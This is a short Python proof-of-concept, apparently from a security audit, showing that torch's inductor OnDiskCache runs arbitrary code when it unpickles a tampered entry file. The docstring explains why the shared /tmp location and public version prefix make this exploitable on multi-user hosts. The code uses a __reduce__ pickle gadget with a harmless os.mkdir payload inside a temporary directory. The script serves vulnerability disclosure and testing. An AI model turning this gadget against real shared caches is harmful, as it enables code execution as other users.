"""OnDiskCache.get unpickles whatever the entry file holds after the version prefix, so anyone
who can write a file into the cache directory can make the next get run code (here: os.mkdir of
a marker directory). The default base_dir is <tempdir>/cache/on_disk_cache, under the shared,
world-writable /tmp on most Linux machines, so on a multi-user host another user who creates
that directory first can plant entries. torch documents pickle as the format, so this is a
deviation from cachespec's SHOULD clause (loading never runs code), but it is the most serious
finding for shared machines. The 4-byte prefix is public: sha256(str(version))[:4].
"""
import os
import pickle
import tempfile
from pathlib import Path

from torch._inductor.cache import OnDiskCache


class RunsCode:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return (os.mkdir, (self.path,))


with tempfile.TemporaryDirectory() as tmp:
    cache = OnDiskCache()
    cache.base_dir = Path(tmp) / "cache"
    marker = Path(tmp) / "code-ran"
    cache.insert("key", "an honest value")
    (entry,) = [p for p in cache.base_dir.iterdir() if p.is_file()]
    entry.write_bytes(cache.version_prefix + pickle.dumps(RunsCode(str(marker))))
    try:
        cache.get("key")
    except Exception as err:
        print(f"get raised {type(err).__name__}")
    print("marker directory created by the entry file:", marker.is_dir())
    if marker.is_dir():
        print("DEVIATION REPRODUCED")
        raise SystemExit(0)
raise SystemExit(1)
